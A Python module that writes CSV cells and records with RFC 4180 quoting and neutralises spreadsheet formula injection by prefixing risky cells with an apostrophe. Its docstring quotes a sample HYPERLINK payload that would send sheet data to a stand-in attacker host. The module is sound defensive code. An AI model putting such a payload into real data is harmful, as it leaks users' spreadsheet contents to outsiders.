"""Cells and lines of every CSV this service writes (job output, exports, import errors):
RFC 4180 quoting, and spreadsheet formulas neutralised.

A spreadsheet opening a CSV runs a text cell that starts with `=`, `+`, `-` or `@` as a
formula (a tab or a carriage return in front does not stop some of them), so a contact's
e-mail `=HYPERLINK("http://evil.example/?"&A1,"click")@x.com` would be a live link that
sends the sheet's data away. Such a cell is written with a leading `'`, which spreadsheets
read as "text" and hide."""

from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NEEDS_QUOTES = (",", '"', "\r", "\n")

Cell = str | int | float | None


def neutralise(text: str) -> str:
    """A text cell as a spreadsheet will show it, never run it."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_cell(value: Cell) -> str:
    """One cell: None is empty, a number as it is (a negative number is no formula), text
    neutralised, then quoted when it holds a comma, a quote or a line break."""
    if value is None:
        return ""
    if not isinstance(value, str):
        return str(value)
    text = neutralise(value)
    if any(ch in text for ch in _NEEDS_QUOTES):
        return '"' + text.replace('"', '""') + '"'
    return text


def csv_line(values: Iterable[Cell]) -> str:
    """One record, CRLF-terminated as RFC 4180 has it."""
    return ",".join(csv_cell(v) for v in values) + "\r\n"
